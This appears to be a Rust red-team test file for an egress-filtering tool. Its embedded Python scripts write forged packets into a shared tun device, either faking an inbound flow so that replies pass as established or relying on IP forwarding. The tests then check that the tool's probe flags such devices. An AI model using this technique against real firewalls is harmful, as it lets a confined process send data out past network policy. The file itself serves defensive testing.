//! Red team round 11: packets written as if received. A persistent tun or tap device that a
//! fenced process may attach (one made with `ip tuntap add ... user U` for it, and also one
//! made with no user and no group, which the kernel lets ANY user attach) takes packets
//! written to its file descriptor as arriving from the outside. Two ways out follow, and
//! neither meets the output hook's judgement of the destination:
//! - the process writes a datagram from an outside address X to its own socket: conntrack
//!   records a flow that X started, and what the socket sends back to X is `established`,
//!   which the fence accepts (the replies to connections made to the host, by design);
//! - on a host that forwards (`ip_forward=1`, as Docker sets it), a packet written to any
//!   address is routed out, and an unscoped table has no forward chain.
//!
//! The table cannot tell a forged flow from a real inbound one (README, "What the fence cannot
//! stop"), so `probe`, run as the fenced process, must say that such a device is open to it
//! (it said nothing) and how to close it.

use std::time::Duration;

use crate::common::*;

/// Allows TCP 7000 to one host (listened on, so that every other check of the probe passes).
const POLICY: &str = r#"
version: 1
allow:
  - cidr: 192.0.2.10/32          # HOST_V4
    ports: [7000]
    protocol: tcp
deny:
  - preset: cloud-metadata
dns:
  resolvers: [192.0.2.53]
"#;

/// The device: a persistent tun in the sandbox with an address of its own.
const TUN: &str = "eftun0";
const TUN_ADDR: &str = "198.18.0.1/24";
/// The outside host that the policy does not allow, and its port.
const OUTSIDE: std::net::IpAddr = OTHER_V4;
const OUTSIDE_PORT: u16 = 6666;

/// Attaches to tun TUN (`IFF_TUN | IFF_NO_PI`) and writes packets as received, then prints
/// what it did. `reply`: writes a UDP datagram from X:XPORT to LOCAL:5555, where its own socket
/// listens, receives it and sends MARKER back to X:XPORT three times (`sent N` or the errno).
/// `forward`: writes three datagrams carrying MARKER from 198.18.0.2 to X:XPORT. Prints
/// `attach ERRNO` when the device refuses it. Arguments: HOW TUN LOCAL X XPORT MARKER.
const WRITE_AS_RECEIVED: &str = concat!(
    crate::inet_checksum_py!(),
    r#"
import errno, fcntl, os, socket, struct, sys
how, tun, local, x, xport, marker = sys.argv[1:7]
xport = int(xport)
def name(e):
    return errno.errorcode.get(e.errno, str(e.errno))
try:
    fd = os.open('/dev/net/tun', os.O_RDWR)
    fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', tun.encode(), 0x0001 | 0x1000))  # TUNSETIFF
except OSError as e:
    print('attach', name(e))
    sys.exit(0)
def udp(src, dst, sport, dport, data):
    u = struct.pack('!HHHH', sport, dport, 8 + len(data), 0) + data
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 17, len(u))
    u = u[:6] + struct.pack('!H', checksum(pseudo + u) or 0xffff) + u[8:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(u), 1, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:] + u
if how == 'reply':
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((local, 5555))
    s.settimeout(2)
    os.write(fd, udp(x, local, xport, 5555, b'from outside'))
    try:
        s.recvfrom(100)
    except socket.timeout:
        print('not received')
        sys.exit(0)
    sent = 0
    for _ in range(3):
        try:
            s.sendto(marker.encode(), (x, xport))
            sent += 1
        except OSError as e:
            print('send', name(e))
            sys.exit(0)
    print('sent', sent)
else:
    for _ in range(3):
        os.write(fd, udp('198.18.0.2', x, 40000, xport, marker.encode()))
    print('written 3')
"#
);

/// A tun character device open to everyone (`crw-rw-rw-`, as distributions ship
/// /dev/net/tun), made in the world's directory and bound over /dev/net/tun in a mount
/// namespace of the command's own: this machine's /dev is never touched.
fn tun_node(w: &World) -> String {
    let node = w.dir().join("tun");
    let node = node.to_str().expect("utf-8 path").to_string();
    let made = w.sandbox_cmd(&["sh", "-c", "mknod -m 666 \"$0\" c 10 200", &node]);
    assert!(made.success(), "mknod: {made}");
    node
}

/// `args` run in the sandbox as `who`, with /dev/net/tun open to everyone.
fn as_adversary_with_tun(w: &World, node: &str, who: Adversary, args: &[&str]) -> CmdOutput {
    let mut full = vec![
        "unshare".to_string(),
        "-m".into(),
        "--propagation".into(),
        "private".into(),
        "sh".into(),
        "-c".into(),
        "mount --bind \"$0\" /dev/net/tun && exec \"$@\"".into(),
        node.to_string(),
    ];
    full.extend(who.command(args));
    w.sandbox_cmd(&full.iter().map(String::as_str).collect::<Vec<_>>())
}

/// [`WRITE_AS_RECEIVED`] as `who` while counting the frames that reach the world carrying
/// `marker`; (frames, what the writer printed).
fn write_as_received(
    w: &World,
    node: &str,
    who: Adversary,
    how: &str,
    marker: &str,
) -> (String, String) {
    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{WRITE_AS_RECEIVED}");
    let (outside, port) = (OUTSIDE.to_string(), OUTSIDE_PORT.to_string());
    let local = SANDBOX_V4.to_string();
    let (frames, out) = w.count_marked_frames(0x0800, marker, 3, || {
        as_adversary_with_tun(
            w,
            node,
            who,
            &[
                PYTHON, "-c", &script, how, TUN, &local, &outside, &port, marker,
            ],
        )
    });
    assert!(frames.success(), "{frames}");
    assert!(out.success(), "{out}");
    (
        frames.stdout.trim().to_string(),
        out.stdout.trim().to_string(),
    )
}

/// `egress-fence probe --json` as `who` with /dev/net/tun open to everyone: the exit code and
/// the tun/tap check's outcome and reason.
fn probe_tun(w: &World, node: &str, policy: &str, who: Adversary) -> (i32, String, String) {
    let out = as_adversary_with_tun(w, node, who, &[EGRESS_FENCE_BIN, "probe", policy, "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out.stdout)
        .unwrap_or_else(|e| panic!("probe --json is not JSON ({e}): {out}"));
    let checks = v["checks"].as_array().cloned().unwrap_or_default();
    let check = checks
        .iter()
        .find(|c| {
            c["check"]
                .as_str()
                .unwrap_or_default()
                .starts_with("tun/tap")
        })
        .unwrap_or_else(|| panic!("no tun/tap check: {out}"));
    let field = |k: &str| check[k].as_str().unwrap_or_default().to_string();
    let failed: Vec<String> = checks
        .iter()
        .filter(|c| c["outcome"] == "fail")
        .map(|c| format!("{}: {}", c["check"], c["reason"]))
        .collect();
    let reason = format!("{} (failed checks: {failed:?})", field("reason"));
    (out.code(), field("outcome"), reason)
}

fn ip_in_sandbox(w: &World, args: &str) {
    let args: Vec<&str> = args.split_whitespace().collect();
    let mut full = vec!["ip"];
    full.extend(args);
    let out = w.sandbox_cmd(&full);
    assert!(out.success(), "{full:?}: {out}");
}

#[test]
fn a_tun_device_the_fenced_process_may_attach_carries_it_out_and_the_probe_says_so() {
    let w = World::new();
    let listener = w.listen_udp(OUTSIDE, OUTSIDE_PORT);
    let _service = w.listen_tcp(HOST_V4, 7000);
    let path = w.write_file("policy.yaml", POLICY);
    let path = path.to_str().expect("utf-8 path");
    w.apply_policy(POLICY);
    let node = tun_node(&w);

    // The table refuses the outside host to the IP stack...
    let stack = w.udp_send(OUTSIDE, OUTSIDE_PORT, b"through the IP stack");
    assert!(
        !listener.wait_for(1, Duration::from_millis(500)),
        "the table let {OUTSIDE} through ({stack}): {:?}",
        listener.hits()
    );

    // ...but a persistent tun made by root with no user and no group is any user's.
    ip_in_sandbox(&w, &format!("tuntap add dev {TUN} mode tun"));
    ip_in_sandbox(&w, &format!("addr add {TUN_ADDR} dev {TUN}"));
    ip_in_sandbox(&w, &format!("link set {TUN} up"));
    let (frames, out) = write_as_received(&w, &node, Adversary::Nobody, "reply", "tunreply");
    assert!(
        frames != "0" && out == "sent 3",
        "{frames} frames ({out}): a reply to a flow written as received from {OUTSIDE} was expected to leave; if it \
         does not, the fence now stops it: update the README and this test"
    );
    let sysctl = w.sandbox_cmd(&["sysctl", "-qw", "net.ipv4.ip_forward=1"]);
    assert!(sysctl.success(), "{sysctl}");
    let (frames, out) = write_as_received(&w, &node, Adversary::Nobody, "forward", "tunforward");
    assert!(
        frames != "0" && out == "written 3",
        "{frames} frames ({out}): a packet written to be forwarded to {OUTSIDE} was expected to leave"
    );
    assert!(
        listener.wait_for(6, Duration::from_secs(3)),
        "{:?}",
        listener.hits()
    );

    // So the probe, run as such a process, fails and names the remedy.
    let who = Adversary::RootWithoutNetAdminOrNetRaw;
    let (code, outcome, reason) = probe_tun(&w, &node, path, who);
    assert_eq!(outcome, "fail", "{reason}");
    assert_eq!(code, 5, "a failed check fails the probe: {reason}");
    assert!(reason.contains(TUN), "{reason}");

    // A device that only another user may attach: the kernel refuses it (EPERM), nothing
    // leaves, and the probe passes.
    ip_in_sandbox(&w, &format!("tuntap del dev {TUN} mode tun"));
    ip_in_sandbox(
        &w,
        &format!("tuntap add dev {TUN} mode tun user 4242 group 4242"),
    );
    ip_in_sandbox(&w, &format!("addr add {TUN_ADDR} dev {TUN}"));
    ip_in_sandbox(&w, &format!("link set {TUN} up"));
    let before = listener.count();
    for who in [Adversary::Nobody, Adversary::RootWithoutNetAdminOrNetRaw] {
        let (frames, out) = write_as_received(&w, &node, who, "reply", "tunrefused");
        assert_eq!(
            (frames.as_str(), out.as_str()),
            ("0", "attach EPERM"),
            "{who:?}"
        );
    }
    assert!(!listener.wait_for(before + 1, Duration::from_millis(500)));
    let (code, outcome, reason) = probe_tun(&w, &node, path, who);
    assert_eq!(outcome, "pass", "{reason}");
    assert_eq!(code, 0, "every check passes: {reason}");
}

/// Attaches tun argv[1] and holds it until killed; with argv[2] `unpersist`, first clears
/// its persistence (`TUNSETPERSIST 0`, which the kernel lets whoever attached a device do).
/// Prints `holding` (or `attach ERRNO`).
const HOLD: &str = r#"
import errno, fcntl, os, struct, sys, time
tun, how = sys.argv[1:3]
try:
    fd = os.open('/dev/net/tun', os.O_RDWR)
    fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', tun.encode(), 0x0001 | 0x1000))  # TUNSETIFF
    if how == 'unpersist':
        fcntl.ioctl(fd, 0x400454cb, 0)  # TUNSETPERSIST
except OSError as e:
    print('attach', errno.errorcode.get(e.errno, str(e.errno)), flush=True)
    sys.exit(0)
print('holding', flush=True)
time.sleep(120)
"#;

/// The fenced process holds the device it writes through (it would, using it) while the
/// probe runs: the probe's attach gets EBUSY, after the driver found the device the prober's.
/// A persistent device is the next attacher's once its holder lets go, so the probe fails as
/// for a free one (it only warned: the way out in use made the probe pass with exit code 0).
/// A holder that cleared the persistence is told from a VPN by nothing the probe can read:
/// that stays a warning that says so.
#[test]
fn a_tun_device_held_by_the_fenced_process_through_the_probe_still_fails_it() {
    let w = World::new();
    let _service = w.listen_tcp(HOST_V4, 7000);
    let path = w.write_file("policy.yaml", POLICY);
    let path = path.to_str().expect("utf-8 path");
    w.apply_policy(POLICY);
    let node = tun_node(&w);
    ip_in_sandbox(&w, &format!("tuntap add dev {TUN} mode tun"));
    ip_in_sandbox(&w, &format!("addr add {TUN_ADDR} dev {TUN}"));

    let hold = |how: &str| {
        let mut full = vec![
            "unshare".to_string(),
            "-m".into(),
            "--propagation".into(),
            "private".into(),
            "sh".into(),
            "-c".into(),
            "mount --bind \"$0\" /dev/net/tun && exec \"$@\"".into(),
            node.clone(),
        ];
        full.extend(Adversary::Nobody.command(&[PYTHON, "-c", HOLD, TUN, how]));
        let mut holder = w.spawn_in_sandbox(&full.iter().map(String::as_str).collect::<Vec<_>>());
        assert!(
            holder.wait_for_output("holding", Duration::from_secs(10)),
            "the holder: {} {}",
            holder.stdout(),
            holder.stderr()
        );
        holder
    };
    let who = Adversary::RootWithoutNetAdminOrNetRaw;

    let holder = hold("keep");
    let (code, outcome, reason) = probe_tun(&w, &node, path, who);
    assert_eq!(outcome, "fail", "{reason}");
    assert_eq!(code, 5, "{reason}");
    assert!(
        reason.contains("held by another descriptor now, and persistent"),
        "{reason}"
    );
    drop(holder);

    // Its persistence cleared by the holder: the device now goes with it, as a VPN's does.
    let holder = hold("unpersist");
    let (code, outcome, reason) = probe_tun(&w, &node, path, who);
    assert_eq!(outcome, "warn", "{reason}");
    assert_eq!(code, 0, "{reason}");
    assert!(reason.contains("cleared its persistence"), "{reason}");
    drop(holder);
}

/// The probe run with CAP_NET_ADMIN (the administrator, whom the fence does not confine) only
/// skips the check, so it must not attach anything: attaching an idle persistent device
/// rewrites its flags (a VM's tap loses `vnet_hdr` until its owner attaches it again) and
/// blinks its carrier, for every device of the namespace.
#[test]
fn the_probe_with_cap_net_admin_leaves_idle_devices_alone() {
    let w = World::new();
    let _service = w.listen_tcp(HOST_V4, 7000);
    let path = w.write_file("policy.yaml", POLICY);
    let path = path.to_str().expect("utf-8 path");
    w.apply_policy(POLICY);
    ip_in_sandbox(&w, "tuntap add dev eftap0 mode tap vnet_hdr");
    let flags = || {
        w.sandbox_cmd(&["ip", "-d", "link", "show", "eftap0"])
            .stdout
    };
    assert!(flags().contains("vnet_hdr on"), "{}", flags());
    // As root, with every capability.
    let out = w.sandbox_cmd(&[EGRESS_FENCE_BIN, "probe", path, "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out.stdout)
        .unwrap_or_else(|e| panic!("probe --json is not JSON ({e}): {out}"));
    let check = v["checks"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|c| {
            c["check"]
                .as_str()
                .unwrap_or_default()
                .starts_with("tun/tap")
        })
        .unwrap_or_else(|| panic!("no tun/tap check: {out}"))
        .clone();
    assert_eq!(check["outcome"], "skip", "{check}");
    assert!(
        flags().contains("vnet_hdr on"),
        "the probe rewrote the device's flags: {}",
        flags()
    );
}
